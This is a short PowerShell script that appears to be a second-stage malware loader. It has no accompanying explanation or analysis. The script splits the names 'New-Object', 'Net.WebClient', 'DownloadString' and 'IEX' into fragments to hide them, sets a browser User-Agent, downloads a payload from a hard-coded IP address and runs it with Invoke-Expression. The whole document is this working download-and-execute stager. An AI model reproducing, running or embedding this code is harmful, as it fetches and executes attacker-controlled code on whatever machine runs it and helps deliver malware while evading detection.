$u = 'http://185.220.101.47/stage2/upd.txt'
$t = 'Net.' + 'Web' + 'Client'
$wc = & ('New-' + 'Obj' + 'ect') $t
$wc.Headers.Add('User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)')
$run = "{1}{0}" -f 'EX', 'I'
& $run ($wc.('Down' + 'load' + 'String')($u))
